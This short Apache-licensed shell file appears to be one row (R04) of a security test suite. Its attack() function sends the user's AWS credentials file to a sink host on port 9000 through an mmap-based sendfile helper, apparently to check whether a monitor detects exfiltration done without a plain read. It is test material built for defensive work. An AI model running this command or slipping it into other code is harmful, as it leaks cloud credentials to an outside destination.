# SPDX-License-Identifier: Apache-2.0
TITLE="written from a mapping of the secret, never read"
ROW="R04"
attack() { "$PROVOKE/sendfile" mmap "$HOME/.aws/credentials" "$SINK4" 9000; }
